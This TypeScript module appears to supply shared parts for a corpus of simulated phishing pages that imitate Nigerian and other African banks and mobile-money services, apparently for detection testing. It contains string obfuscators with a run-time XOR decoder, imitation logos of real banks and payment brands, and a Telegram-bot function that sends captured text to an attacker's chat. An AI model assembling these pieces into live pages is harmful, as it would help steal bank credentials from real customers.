import type { Route } from '../../corpus/corpus.js';

/**
 * Shared furniture for the `yv-` pages (West African banking, mobile money and fintech): document shells,
 * inline SVG logos, encoders the kits use to hide strings, and a few snippets real pages carry.
 * Parts hold no pages.
 */

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const codes = (s: string): string => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
/** Reverse then base64, a favourite of Nigerian "kit sellers". */
export const revB64 = (s: string): string => b64(Array.from(s).reverse().join(''));
/** XOR with a short key, then base64: the blob a loader decrypts at run time. */
export function xorB64(s: string, key: string): string {
  const k = Buffer.from(key, 'utf8');
  const d = Buffer.from(s, 'utf8');
  return Buffer.from(d.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
}
/** JS source of the matching decoder, named `fn`. */
export const xorDecoder = (fn: string): string =>
  `function ${fn}(b,k){var s=atob(b),o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));}try{return decodeURIComponent(escape(o));}catch(e){return o;}}`;

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export type DocOpts = { title: string; lang?: string; head?: string; css?: string; body: string; bodyAttrs?: string; metaDesc?: string };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>${o.metaDesc ? `\n<meta name="description" content="${esc(o.metaDesc)}">` : ''}
${o.head ?? ''}
<style>${o.css ?? ''}</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** Bare page without the viewport/description niceties, as cheap kits ship. */
export const rawDoc = (title: string, inner: string, lang = 'en'): string =>
  `<html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title></head><body>${inner}</body></html>`;

const svg = (w: number, h: number, inner: string, label: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}" viewBox="0 0 ${w} ${h}" role="img" aria-label="${label}">${inner}</svg>`;

export const LOGO = {
  gtbank: svg(64, 64, '<rect width="64" height="64" rx="6" fill="#dd4f05"/><text x="32" y="41" font-family="Arial" font-weight="700" font-size="26" fill="#fff" text-anchor="middle">GT</text>', 'GTBank'),
  gtco: svg(120, 40, '<rect width="40" height="40" rx="4" fill="#dd4f05"/><text x="20" y="27" font-family="Arial" font-weight="700" font-size="16" fill="#fff" text-anchor="middle">GT</text><text x="48" y="27" font-family="Arial" font-size="18" fill="#333">GTCO</text>', 'GTCO'),
  access: svg(150, 40, '<path d="M6 34 L20 6 L34 34 Z" fill="#f47b20"/><path d="M14 34 L20 22 L26 34Z" fill="#fff"/><text x="42" y="27" font-family="Arial" font-weight="700" font-size="18" fill="#003b65">access</text>', 'Access Bank'),
  zenith: svg(150, 40, '<rect x="2" y="4" width="32" height="32" fill="#e30613"/><text x="18" y="28" font-family="Georgia" font-weight="700" font-size="22" fill="#fff" text-anchor="middle">Z</text><text x="42" y="27" font-family="Georgia" font-size="18" fill="#222">Zenith Bank</text>', 'Zenith Bank'),
  firstbank: svg(170, 44, '<rect width="44" height="44" fill="#003b71"/><path d="M10 32c4-12 10-18 22-18-6 4-8 10-8 18z" fill="#f2b632"/><text x="52" y="29" font-family="Arial" font-weight="700" font-size="18" fill="#003b71">FirstBank</text>', 'FirstBank'),
  uba: svg(110, 40, '<rect width="110" height="40" fill="#d71e28"/><text x="55" y="28" font-family="Arial Black,Arial" font-weight="900" font-size="22" fill="#fff" text-anchor="middle">UBA</text>', 'UBA'),
  opay: svg(110, 36, '<circle cx="18" cy="18" r="16" fill="#1dcf9f"/><circle cx="18" cy="18" r="7" fill="#fff"/><text x="40" y="26" font-family="Arial" font-weight="700" font-size="20" fill="#1dcf9f">OPay</text>', 'OPay'),
  palmpay: svg(140, 36, '<rect width="36" height="36" rx="10" fill="#6a35ff"/><text x="18" y="25" font-family="Arial" font-weight="700" font-size="18" fill="#fff" text-anchor="middle">P</text><text x="44" y="25" font-family="Arial" font-weight="700" font-size="19" fill="#6a35ff">PalmPay</text>', 'PalmPay'),
  moniepoint: svg(160, 36, '<rect width="36" height="36" rx="8" fill="#0357ee"/><path d="M9 26V11l9 9 9-9v15" stroke="#fff" stroke-width="3.5" fill="none"/><text x="44" y="25" font-family="Arial" font-weight="700" font-size="18" fill="#0b1f44">Moniepoint</text>', 'Moniepoint'),
  mpesa: svg(130, 40, '<rect width="130" height="40" rx="6" fill="#4caf50"/><text x="65" y="27" font-family="Arial" font-weight="700" font-size="20" fill="#fff" text-anchor="middle">M-PESA</text>', 'M-PESA'),
  safaricom: svg(150, 36, '<circle cx="16" cy="18" r="14" fill="#4caf50"/><text x="38" y="25" font-family="Arial" font-size="19" fill="#333">Safaricom</text>', 'Safaricom'),
  mtn: svg(90, 44, '<ellipse cx="45" cy="22" rx="43" ry="20" fill="#ffcc00" stroke="#000" stroke-width="2"/><text x="45" y="30" font-family="Arial Black,Arial" font-weight="900" font-size="20" fill="#000" text-anchor="middle">MTN</text>', 'MTN'),
  momo: svg(130, 40, '<rect width="130" height="40" rx="20" fill="#004f71"/><text x="65" y="27" font-family="Arial" font-weight="700" font-size="18" fill="#ffcc00" text-anchor="middle">MoMo</text>', 'MTN MoMo'),
  orange: svg(60, 60, '<rect width="60" height="60" fill="#ff7900"/><rect x="8" y="44" width="44" height="6" fill="#fff"/>', 'Orange'),
  wave: svg(120, 40, '<circle cx="20" cy="20" r="18" fill="#1dc8f2"/><path d="M8 22c4-6 8-6 12 0s8 6 12 0" stroke="#fff" stroke-width="3" fill="none"/><text x="46" y="28" font-family="Arial" font-weight="700" font-size="20" fill="#1dc8f2">wave</text>', 'Wave'),
  cbn: svg(64, 64, '<circle cx="32" cy="32" r="30" fill="#0a5c36"/><circle cx="32" cy="32" r="22" fill="none" stroke="#d4af37" stroke-width="3"/><text x="32" y="38" font-family="Georgia" font-weight="700" font-size="16" fill="#fff" text-anchor="middle">CBN</text>', 'Central Bank of Nigeria'),
  coat: svg(56, 56, '<rect width="56" height="56" fill="#fff"/><path d="M28 6l6 12h12l-10 8 4 14-12-8-12 8 4-14-10-8h12z" fill="#008751"/><rect x="10" y="46" width="36" height="4" fill="#008751"/>', 'Coat of arms'),
  dhl: svg(130, 30, '<rect width="130" height="30" fill="#ffcc00"/><text x="65" y="22" font-family="Arial Black,Arial" font-style="italic" font-weight="900" font-size="20" fill="#d40511" text-anchor="middle">DHL</text>', 'DHL'),
  gig: svg(120, 40, '<rect width="40" height="40" rx="6" fill="#ec1c24"/><text x="20" y="27" font-family="Arial" font-weight="700" font-size="14" fill="#fff" text-anchor="middle">GIG</text><text x="48" y="26" font-family="Arial" font-size="14" fill="#222">Logistics</text>', 'GIG Logistics'),
  tether: svg(40, 40, '<circle cx="20" cy="20" r="19" fill="#26a17b"/><path d="M11 11h18v5h-6.5v3c4 .3 7 1.1 7 2s-3 1.7-7 2v7h-5v-7c-4-.3-7-1.1-7-2s3-1.7 7-2v-3H11z" fill="#fff"/>', 'USDT'),
  binanceish: svg(40, 40, '<rect width="40" height="40" rx="8" fill="#111"/><path d="M20 8l4 4-4 4-4-4zM12 16l4 4-4 4-4-4zM28 16l4 4-4 4-4-4zM20 24l4 4-4 4-4-4z" fill="#f0b90b"/>', 'Exchange'),
};

export const CSS = {
  reset: '*{box-sizing:border-box}body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,Arial,sans-serif;color:#1d1d1f}a{color:inherit}',
  card: '.card{max-width:420px;margin:40px auto;background:#fff;border-radius:12px;box-shadow:0 6px 24px rgba(0,0,0,.08);padding:28px}',
  field: 'label{display:block;font-size:13px;margin:14px 0 6px;color:#555}input,select{width:100%;padding:12px;border:1px solid #cfd4da;border-radius:8px;font-size:15px}button{cursor:pointer}',
};

/** A Telegram drop as the kit sellers wire it: bot token and chat id, sendMessage with parse_mode HTML. */
export function tgSend(token: string, chat: string, fn = 'sendTg'): string {
  return `function ${fn}(t){var u='https://api.telegram.org/bot${token}/sendMessage';return fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:t,parse_mode:'HTML'})});}`;
}

/** Visitor fingerprint the kits append to every log line. */
export const ipLookup = `function getIp(){return fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){return j.ip}).catch(function(){return 'n/a'});}`;

/** Google tag stub as found on most real sites. */
export const gtag = (id: string): string =>
  `<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','${id}');</script>`;

export const cookieBar = (policy: string, text = 'We use cookies to improve your experience on our website. By continuing you agree to our use of cookies.'): string =>
  `<div id="cookie" style="position:fixed;bottom:0;left:0;right:0;background:#222;color:#eee;padding:12px 20px;font-size:13px">${text} <a href="${policy}" style="color:#ffb">Learn more</a> <button onclick="this.parentNode.remove()" style="margin-left:10px">OK</button></div>`;

export const jsR = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
export const cssR = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body });
export const jsonR = (body: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
export const textR = (body: string, type = 'text/plain; charset=utf-8', extra: Record<string, string> = {}): Route => ({ status: 200, headers: { 'content-type': type, ...extra }, body });
export const svgR = (body: string): Route => ({ status: 200, headers: { 'content-type': 'image/svg+xml' }, body });

/** A plausible Naira amount. */
export const naira = (n: number): string => '&#8358;' + n.toLocaleString('en-US');

/** WhatsApp click-to-chat link. */
export const wa = (num: string, text: string): string => `https://wa.me/${num}?text=${encodeURIComponent(text)}`;
